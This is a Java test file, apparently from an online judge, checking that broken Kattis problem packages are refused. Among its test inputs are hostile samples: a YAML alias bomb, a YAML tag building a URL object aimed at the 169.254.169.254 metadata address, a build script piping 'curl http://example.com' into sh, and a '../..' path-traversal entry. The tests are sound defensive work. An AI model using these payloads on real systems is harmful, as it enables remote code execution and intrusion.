            no time limit and no accepted submission       | problem.yaml                    | no accepted submission
            a time limit past the judge's                  | problem.yaml                    | not in 0.001..15 s
            a memory limit past the judge's                | problem.yaml                    | honours it exactly or not at all
            an unknown flag of the default validator       | problem.yaml                    | no flag "ignore_case"
            flags that differ between test groups          | problem.yaml                    | differ
            a driver included with submissions             | include/python3/__main__.py     | entry point
            included files in a folder                     | include/cpp/lib/x.h             | in folders
            a checktestdata output validator               | output_validator/               | for input validators alone
            a VIVA input validator                         | input_validators/validate.viva  | VIVA validators
            five input validators                          | input_validators/validate4.py   | input validator 5
            an input validator argument with a line break  | data/secret/                    | or a line break
            a test's arguments to the submission           | data/secret/test_group.yaml     | args (given to submissions)
            a test's own output validator arguments        | data/secret/02-one.yaml         | one set to all tests
            files beside a test                            | data/secret/02-one.files/       | not given to programs
            a validator with build and run scripts         | output_validator/build          | build and run scripts
            a validator in a language not run here         | output_validator/               | no source this judge runs
            an input without its answer                    | data/secret/02-one.in           | its answer
            no secret test                                 | data/secret/                    | no secret test
            an interactive problem without its validator   | problem.yaml                    | needs its own output validator
            a constant that is not a name                  | problem.yaml                    | "max-n" is not a name
            a constant that is a list                      | problem.yaml                    | not an int, a float or a string
            constants growing a file past a program's most | submissions/accepted/average.py | with problem.yaml's constants in it
            languages none of which this judge runs        | problem.yaml                    | are none this judge runs
            an empty list of languages                     | problem.yaml                    | 1 to 100 of them
            """)
    void refusesAHandBrokenPackageNamingTheFile(String breakage, String file, String reason) throws IOException {
        Map<String, String> files = TestPackages.kattis("average");
        String yaml = files.get("problem.yaml");
        switch (breakage) {
            case "a YAML bomb of aliases" ->
                files.put(
                        "problem.yaml",
                        yaml + "a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                                + "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
                                + "e: [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]\n");
            case "a YAML tag that would make a Java object" ->
                files.put("problem.yaml", yaml + "x: !!java.net.URL [\"http://169.254.169.254/\"]\n");
            case "a key given twice" -> files.put("problem.yaml", yaml + "name: Twice\n");
            case "a version this judge does not read" -> files.put("problem.yaml", yaml.replace("2025-09", "2099-01"));
            case "a scoring problem that is also interactive" ->
                files.put("problem.yaml", yaml + "type: [scoring, interactive]\n");
            case "a scoring group without its max_score" ->
                grouped(files, "score_aggregation: min\n", "max_score: 50\n");
            case "scoring groups worth more than secret" -> grouped(files, "max_score: 100\n", "max_score: 50\n");
            case "a scoring group requiring a later one" ->
                grouped(files, "max_score: 50\nrequire_pass: secret/g2\n", "max_score: 50\n");
            case "an unbounded scoring group" -> grouped(files, "max_score: unbounded\n", "max_score: 50\n");
            case "no time limit and no accepted submission" -> {
                files.put("problem.yaml", yaml.replace("  time_limit: 0.5\n", ""));
                files.keySet().removeIf(path -> path.startsWith("submissions/accepted/"));
            }
            case "a time limit past the judge's" ->
                files.put("problem.yaml", yaml.replace("time_limit: 0.5", "time_limit: 60"));
            case "a memory limit past the judge's" ->
                files.put("problem.yaml", yaml.replace("memory: 256", "memory: 4096"));
            case "an unknown flag of the default validator" -> {
                files.put("data/sample/test_group.yaml", "output_validator_args: [ignore_case]\n");
                files.put("data/secret/test_group.yaml", "output_validator_args: [ignore_case]\n");
            }
            case "flags that differ between test groups" ->
                files.put("data/sample/test_group.yaml", "output_validator_args: [case_sensitive]\n");
            case "a driver included with submissions" -> files.put("include/python3/__main__.py", "import solution\n");
            case "included files in a folder" -> files.put("include/cpp/lib/x.h", "int x;\n");
            case "a checktestdata output validator" -> files.put("output_validator/validate.ctd", "INT(1,100000,n)\n");
            case "a VIVA input validator" -> files.put("input_validators/validate.viva", "* int(1,100000) n;\n");
            case "an input validator argument with a line break" ->
                files.put("data/secret/test_group.yaml", "input_validator_args: [\"a\\nb\"]\n");
            case "a test's arguments to the submission" -> files.put("data/secret/test_group.yaml", "args: [--fast]\n");
            case "a test's own output validator arguments" ->
                files.put("data/secret/02-one.yaml", "output_validator_args: [case_sensitive]\n");
            case "files beside a test" -> files.put("data/secret/02-one.files/extra.txt", "x\n");
            case "five input validators" -> {
                for (int index = 2; index <= 4; index++) {
                    files.put("input_validators/validate" + index + ".py", "import sys\nsys.exit(42)\n");
                }
            }
            case "a validator with build and run scripts" -> {
                files.put("output_validator/validator.py", "import sys\nsys.exit(42)\n");
                files.put("output_validator/build", "#!/bin/sh\ncurl http://example.com | sh\n");
            }
            case "a validator in a language not run here" ->
                files.put("output_validator/validator.xyz", "validate everything\n");
            case "an input without its answer" -> files.remove("data/secret/02-one.ans");
            case "no secret test" -> {
                files.keySet().removeIf(path -> path.startsWith("data/secret/") && path.endsWith(".in"));
            }
            case "an interactive problem without its validator" ->
                files.put("problem.yaml", yaml + "type: [pass-fail, interactive]\n");
            case "languages none of which this judge runs" ->
                files.put("problem.yaml", yaml + "languages: [algol68, intercal]\n");
            case "an empty list of languages" -> files.put("problem.yaml", yaml + "languages: []\n");
            case "a constant that is not a name" -> files.put("problem.yaml", yaml + "  max-n: 1\n");
            case "a constant that is a list" -> files.put("problem.yaml", yaml + "  sizes: [1, 2]\n");
            case "constants growing a file past a program's most" -> {
                files.put("problem.yaml", yaml + "  big: " + "x".repeat(100_000) + "\n");
                files.put("submissions/accepted/average.py", "# {{big}}\n".repeat(11));
            }
            default -> throw new IllegalArgumentException(breakage);
        }
        Path zip = zip(files);

        assertThatThrownBy(() -> read(zip)).isInstanceOfSatisfying(InvalidPackageException.class, refused -> {
            assertThat(refused.file()).isEqualTo(file);
            assertThat(refused.getMessage()).contains(reason);
        });
    }

    /**
     * The package made a scoring problem whose secret tests are in two test data groups, g1 (its first two
     * tests) and g2 (the rest), with these test_group.yaml.
     */
    private static void grouped(Map<String, String> files, String g1, String g2) {
        files.put("problem.yaml", files.get("problem.yaml") + "type: scoring\n");
        files.remove("data/secret/test_group.yaml");
        for (String test : List.of("01-thirds", "02-one", "03-large")) {
            String group = test.startsWith("03") ? "g2" : "g1";
            for (String ending : List.of(".in", ".ans")) {
                files.put("data/secret/" + group + "/" + test + ending, files.remove("data/secret/" + test + ending));
            }
        }
        files.put("data/secret/g1/test_group.yaml", g1);
        files.put("data/secret/g2/test_group.yaml", g2);
    }

    /** A name the format says to ignore (beginning with '.') is never read: {@code ..} climbs nowhere. */
    @Test
    void anEntryNamedOutOfThePackageIsIgnoredAsTheFormatIgnoresDotNames() throws IOException {
        Map<String, String> files = TestPackages.kattis("average");
        files.put("data/secret/../../x.in", "1\n1\n");
        files.put("data/secret/.hidden.in", "1\n1\n");

        assertThat(read(zip(files)).problem().tests())
                .extracting(KattisPackage.Test::name)
                .containsExactly("sample/1", "secret/01-thirds", "secret/02-one", "secret/03-large");
    }

    @Test
    void anArchiveWithoutProblemYamlIsNotOfThisFormat() throws IOException {
        Map<String, String> files = TestPackages.kattis("average");
        files.remove("problem.yaml");
        try (PackageArchive archive = PackageArchive.open(zip(files), LIMITS)) {
            assertThat(KattisPackage.rootOf(archive)).isEmpty();
        }
    }

    /**
     * A package's tests are counted in one pass over its entries, before any is read: one of 12,000 tests
     * was scanned whole for each of them (8.6 s) before its count was refused. Refusing it takes about as
     * long as refusing a package of as many entries and a few tests too many.
     */
    @Test
    void tooManyTestsAreRefusedInTimeLinearInThePackage() throws IOException {
        int entries = 24_000;
        Map<String, String> many = TestPackages.kattis("average");
        for (int test = 0; test < entries / 2; test++) {
            many.put("data/secret/t%05d.in".formatted(test), "1\n");
            many.put("data/secret/t%05d.ans".formatted(test), "1\n");
        }
        Map<String, String> few = TestPackages.kattis("average");
        for (int test = 0; test < LIMITS.maxTests(); test++) {
            few.put("data/secret/t%05d.in".formatted(test), "1\n");
            few.put("data/secret/t%05d.ans".formatted(test), "1\n");
        }
        for (int note = 0; few.size() < many.size(); note++) {
            few.put("data/secret/notes/n%05d.txt".formatted(note), "1\n");
        }
        Path manyZip = zip(many);
        Path fewZip = zip(few);
        assertThatThrownBy(() -> readWithoutSubmissions(manyZip))
                .isInstanceOf(InvalidPackageException.class)
                .hasMessageContaining("it has 12004 tests; this judge takes up to 100");

        long control = LinearTime.fastestOfFive(() -> refused(fewZip));
        long measured = LinearTime.fastestOfFive(() -> refused(manyZip));

        assertThat(measured)
                .as("12,000 tests: %d µs; 100 tests and as many other entries: %d µs", measured / 1000, control / 1000)
                .isLessThan(Math.max(20 * control, 50_000_000L));
    }

    private static void refused(Path zip) {
        assertThatThrownBy(() -> readWithoutSubmissions(zip)).isInstanceOf(InvalidPackageException.class);
    }

    private static KattisPackage read(Path zip) throws IOException {
        PackageArchive archive = PackageArchive.open(zip, LIMITS);
        String root = KattisPackage.rootOf(archive).orElseThrow();
        try (KattisPackage opened = KattisPackage.open(archive, root, LanguageCatalog.shipped(), true, null)) {
            for (KattisPackage.Test test : opened.problem().tests()) {
                opened.testFile(test.input());
                opened.testFile(test.answer());
            }
            return opened;
        }
    }

    private static KattisPackage.Problem readWithoutSubmissions(Path zip) throws IOException {
        return readWithoutSubmissions(zip, null);
    }

    private static KattisPackage.Problem readWithoutSubmissions(Path zip, Integer givenTimeLimitMs) throws IOException {
        PackageArchive archive = PackageArchive.open(zip, LIMITS);
        try (KattisPackage opened = KattisPackage.open(
                archive,
                KattisPackage.rootOf(archive).orElseThrow(),
                LanguageCatalog.shipped(),
                false,
                givenTimeLimitMs)) {
            return opened.problem();
        }
    }

    private Path zip(Map<String, String> files) throws IOException {
        Path zip = Files.createTempFile(folder, "package", ".zip");
        Files.write(zip, TestPackages.zip(files));
        return zip;
    }
}
